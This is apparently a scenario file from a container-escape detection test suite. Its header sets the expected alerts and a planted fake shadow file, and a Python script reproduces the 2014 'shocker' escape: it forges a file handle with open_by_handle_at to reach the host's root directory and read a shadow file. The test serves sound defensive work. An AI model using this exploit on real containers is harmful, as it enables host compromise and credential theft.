# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: sensitive-file-read open-by-handle-in-container
# image: debian
# opts: --no-nnp --cap CAP_DAC_READ_SEARCH
# setup: hostdir
# layer: printf 'root:$6$exray$hostpathsecret:19000:0:99999:7:::\n' >../../hostetc/shadow; chmod 600 ../../hostetc/shadow
# desc: the "shocker" escape (Docker 0.11, 2014): a container granted CAP_DAC_READ_SEARCH forges an ext4 file handle for inode 2 (the root directory) and opens it with open_by_handle_at against its hostPath mount, which gives it the host's root directory outside its mount namespace; from there it walks to a shadow file (the hostPath's scratch copy, not the real /etc/shadow)
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
python3 - <<'PY'
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
mount_fd = os.open("/host-etc", os.O_RDONLY | os.O_DIRECTORY)
# where the hostPath lives on the host's filesystem: the mount's root in mountinfo
rel = next(l.split()[3] for l in open("/proc/self/mountinfo") if l.split()[4] == "/host-etc")
print("hostPath source on the host:", rel)
# struct file_handle { u32 handle_bytes; int handle_type; u8 f_handle[] }:
# FILEID_INO32_GEN (1) = { u32 inode, u32 generation }; inode 2 is ext4's root
fh = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0))
root = libc.open_by_handle_at(mount_fd, fh, os.O_RDONLY | os.O_DIRECTORY)
if root < 0:
    print("open_by_handle_at refused:", os.strerror(ctypes.get_errno()))
    raise SystemExit(0)
st = os.fstat(root)
print("opened the host's root directory: inode", st.st_ino, "with", len(os.listdir(root)), "entries")
fd = os.open(rel.lstrip("/") + "/shadow", os.O_RDONLY, dir_fd=root)
print("read through the handle:", os.read(fd, 4096).decode().strip())
PY
